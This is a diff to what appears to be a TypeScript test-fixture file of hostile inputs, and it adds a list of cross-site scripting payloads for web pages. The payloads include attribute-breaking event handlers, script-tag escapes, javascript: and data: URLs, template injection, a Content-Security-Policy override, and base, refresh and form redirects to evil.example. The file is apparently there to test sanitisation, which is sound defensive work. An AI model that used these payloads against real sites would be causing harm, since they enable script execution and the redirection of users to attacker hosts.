@@ -80,6 +80,21 @@ export const forPages = named({
   'a formula': '$x$ $$y$$',
   'an address': 'www.evil.example https://evil.example/x',
   'an entity and a comment': '&lt;b&gt; <!-- x',
+  'an event in quotes': '" onmouseover="alert(1)" x="',
+  'an event in apostrophes': "' onfocus='alert(1)' autofocus tabindex='1",
+  'a drawing that runs': '<svg onload=alert(1)><animate onbegin=alert(1)>',
+  'the end of a title': '</title><script>alert(1)</script>',
+  'the end of data': '</script><script>alert(1)</script><!--<script>',
+  'an address that runs': 'javascript:alert(1)',
+  'a page in an address': 'data:text/html,<script>alert(1)</script>',
+  'a page in a frame': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  'a template': '{{constructor.constructor("alert(1)")()}} ${alert(1)}',
+  'a policy': `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
+  'another base and another page':
+    '<base href="//evil.example/"><meta http-equiv="refresh" content="0;//evil.example">',
+  'a form': '<form action="//evil.example"><button formaction="javascript:alert(1)">x</button>',
+  'other kinds of text':
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror=alert(1)&gt;">',
 });
 
 export const all: readonly Hostile[] = [...forTerminals, ...forSpreadsheets, ...forPages];
